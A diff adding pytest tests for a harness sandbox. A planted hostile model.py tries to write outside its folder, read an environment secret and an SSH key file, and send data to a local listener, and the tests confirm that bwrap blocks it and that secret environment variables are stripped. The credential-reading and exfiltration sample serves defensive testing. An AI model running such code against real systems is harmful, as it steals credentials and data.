@@ -1,0 +1,146 @@
+"""Case code runs in the sandbox; tools and case code get a scrubbed environment.
+
+A planted hostile model.py tries what a stranger's case could: write outside its
+scratch folder, read a secret from the environment and a credential file from HOME,
+and reach a server the test listens with on the host's loopback.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from harness.cache import Cache
+from harness.process import run_bounded
+from harness.sandbox import NONE_ASKED, case_env, probe, tool_env
+from harness.stages import Settings, run_torch_job
+from harness.toolchain import Toolchain
+
+HOSTILE = '''
+import os, socket, sys
+def attempt(what, fn):
+    try:
+        print(what, "DONE", fn(), file=sys.stderr)
+    except Exception as e:
+        print(what, "REFUSED", type(e).__name__, e, file=sys.stderr)
+attempt("write-outside", lambda: open({outside!r}, "w").write("pwned"))
+attempt("read-secret", lambda: os.environ["FAKE_SECRET_TOKEN"])
+attempt("read-credentials", lambda: open({credentials!r}).read() or "(empty)")
+def connect():
+    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
+    s.sendall(b"exfiltrated")
+    return "connected"
+attempt("network", connect)
+attempt("write-tmp", lambda: open("/tmp/hostile-tmp-file", "w").write("x"))
+raise SystemExit("hostile model.py done")
+'''
+
+
+def _listener():
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(1)
+    server.settimeout(8)
+    got = []
+
+    def accept():
+        try:
+            conn, _ = server.accept()
+            got.append(conn.recv(100))
+        except OSError:
+            pass
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    return server, thread, got
+
+
+def _run_hostile(tmp_path, monkeypatch, sandbox):
+    monkeypatch.setenv("FAKE_SECRET_TOKEN", "s3cr3t-value")
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY MATERIAL")
+    monkeypatch.setenv("HOME", str(home))
+    server, thread, got = _listener()
+    case = tmp_path / "case"
+    case.mkdir()
+    # On the real root, not under /tmp (the sandbox's /tmp is its own, so a write there
+    # succeeds and vanishes: see write-tmp)
+    outside = Path("/var/tmp") / f"iree-regress-hostile-{os.getpid()}-{tmp_path.name}.txt"
+    (case / "model.py").write_text(HOSTILE.format(outside=str(outside), port=server.getsockname()[1],
+                                                  credentials=str(home / ".ssh" / "id_ed25519")))
+    (case / "inputs").mkdir()
+    scratch = tmp_path / "scratch"
+    scratch.mkdir()
+    settings = Settings(Toolchain(Path("x"), Path("x"), Path("x"), "0", "", "0", "test"), Cache(tmp_path / "c"),
+                        sandbox=sandbox)
+    result = run_torch_job("import", [case / "model.py", case / "inputs", scratch], settings, writable=scratch)
+    thread.join(timeout=10)
+    server.close()
+    return result, outside, got
+
+
+def _sandbox_or_skip():
+    sandbox = probe()
+    if not sandbox.bwrap:
+        pytest.skip(f"no sandbox on this machine: {sandbox.why}")
+    return sandbox
+
+
+def test_hostile_case_code_cannot_write_outside_read_secrets_or_reach_the_network(tmp_path, monkeypatch):
+    result, outside, got = _run_hostile(tmp_path, monkeypatch, _sandbox_or_skip())
+    log = result.log
+    assert not outside.exists() and "write-outside REFUSED OSError [Errno 30] Read-only file system" in log, log
+    assert "s3cr3t" not in log and "read-secret REFUSED KeyError" in log
+    assert "PRIVATE KEY" not in log  # the credential file reads empty, or not at all
+    assert got == [] and "network REFUSED" in log
+    assert "write-tmp DONE" in log and not Path("/tmp/hostile-tmp-file").exists()  # a private /tmp
+    assert not result.ok and "Read-only file system" in result.detail  # the item says why it failed
+
+
+def test_without_the_sandbox_the_same_code_reaches_out(tmp_path, monkeypatch):
+    """The planted fault: the same hostile program, unsandboxed, does all of it (so the
+    test above would fail if the sandbox let it through)."""
+    result, outside, got = _run_hostile(tmp_path, monkeypatch, NONE_ASKED)
+    assert outside.read_text() == "pwned"
+    outside.unlink()
+    assert got == [b"exfiltrated"]
+    assert "read-credentials DONE PRIVATE KEY MATERIAL" in result.log
+    Path("/tmp/hostile-tmp-file").unlink(missing_ok=True)
+
+
+@pytest.mark.harness
+def test_tools_and_case_code_get_an_allowlisted_environment_without_secrets(monkeypatch):
+    for name, value in (("GITHUB_TOKEN", "t"), ("AWS_SECRET_ACCESS_KEY", "k"), ("MY_API_KEY", "k"),
+                        ("IREE_REGRESS_DEPLOY_TOKEN", "t"), ("SOME_RANDOM_VAR", "x"),
+                        ("VK_ICD_FILENAMES", "/icd.json"), ("LD_LIBRARY_PATH", "/lib"), ("IREE_REGRESS_X", "1")):
+        monkeypatch.setenv(name, value)
+    env = tool_env()
+    assert {"VK_ICD_FILENAMES", "LD_LIBRARY_PATH", "IREE_REGRESS_X", "PATH"} <= set(env)
+    assert not {"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_API_KEY", "IREE_REGRESS_DEPLOY_TOKEN",
+                "SOME_RANDOM_VAR"} & set(env)
+    case = case_env()
+    assert "VK_ICD_FILENAMES" not in case and "LD_LIBRARY_PATH" not in case and case["HOME"] == "/tmp"
+    # And a tool run through run_bounded sees exactly that.
+    printed = run_bounded([sys.executable, "-c", "import os; print(sorted(os.environ))"]).stdout.decode()
+    assert "GITHUB_TOKEN" not in printed and "SOME_RANDOM_VAR" not in printed and "VK_ICD_FILENAMES" in printed
+
+
+@pytest.mark.harness
+def test_no_sandbox_is_said_and_recorded(monkeypatch):
+    """Where bwrap is missing the probe says why, and the description says not sandboxed."""
+    import harness.sandbox as sandbox
+
+    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
+    sandbox.probe.cache_clear()
+    try:
+        made = sandbox.probe()
+        assert made.bwrap is None and made.description.startswith("not sandboxed (bwrap is not installed")
+        assert made.wrap(["python3", "x.py"], [Path("/tmp")]) == ["python3", "x.py"]
+    finally:
+        sandbox.probe.cache_clear()
